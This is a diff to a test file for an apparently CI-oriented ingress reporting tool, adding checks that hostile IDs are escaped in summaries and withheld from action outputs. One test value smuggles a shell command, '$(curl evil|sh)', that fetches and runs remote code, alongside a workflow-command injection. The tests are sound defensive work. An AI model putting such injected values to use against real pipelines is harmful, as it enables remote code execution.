@@ -3,6 +3,7 @@ import type { IngressFile } from '../src/ingress/types.js'
 import { planChanges } from '../src/plan/plan.js'
 import { COMMENT_LIMIT, commentMarker, fitComment, renderComment, renderStaleComment } from '../src/report/comment.js'
 import { cell, escapeMarkdown, link } from '../src/report/markdown.js'
+import { renderOutputs } from '../src/report/outputs.js'
 import type { RunReport } from '../src/report/report.js'
 import { renderSummary } from '../src/report/summary.js'
 import { displayUrl, ruleUrls } from '../src/report/urls.js'
@@ -200,7 +201,8 @@ describe('what a value cannot do in the summary and the comment', () => {
   const hostileLive: IngressFile = {
     ...live,
     Description: 'was @someone',
-    Rules: [{ appId: 'app-web', appName: 'web @alice', containerPort: 8080, domain: 'www.example.com', path: '/', backendProtocol: '<img src=x> | @bob' }]
+    // A live answer can hold anything, whatever the type says.
+    Rules: [{ appId: 'app-web', appName: 'web @alice', containerPort: 8080, domain: 'www.example.com', path: '/', backendProtocol: '<img src=x> | @bob' as 'http' }]
   }
   const hostileFile: IngressFile = { ...file, Description: 'cc @security-team about #1 \u202Eevil' }
   const hostile = report({ ingress: hostileFile, live: hostileLive, plan: planChanges(hostileFile, hostileLive, 'replace') })
@@ -272,3 +274,18 @@ test.each([
   ['not a url?token=s3cret', 'not a url?***'],
   ['user:pw@host/x', '***']
 ])('displayUrl(%p) = %p', (url, shown) => expect(displayUrl(url)).toBe(shown))
+
+describe('outputs scripts read', () => {
+  test('a RequestId or TraceId that is not an ID is not passed on (the summary still shows it)', () => {
+    const hostile = report({ update: { requestId: 'R1"; $(curl evil|sh) #', traceId: 'T\n::warning::x', attempts: 1 } })
+    const outputs = Object.fromEntries(renderOutputs(hostile))
+    expect(outputs['request-id']).toBeUndefined()
+    expect(outputs['trace-id']).toBeUndefined()
+    expect(renderSummary(hostile)).toContain('R1"; $\\(curl evil\\|sh\\) `#`')
+  })
+
+  test('service IDs as the service writes them pass', () => {
+    const outputs = Object.fromEntries(renderOutputs(report({ update: { requestId: '9B07ACA0-B1FF-4783-BFCA-0F30A261141A', traceId: '8aff24d1721f34bee35552b00ca1bf', attempts: 1 } })))
+    expect(outputs).toMatchObject({ 'request-id': '9B07ACA0-B1FF-4783-BFCA-0F30A261141A', 'trace-id': '8aff24d1721f34bee35552b00ca1bf' })
+  })
+})
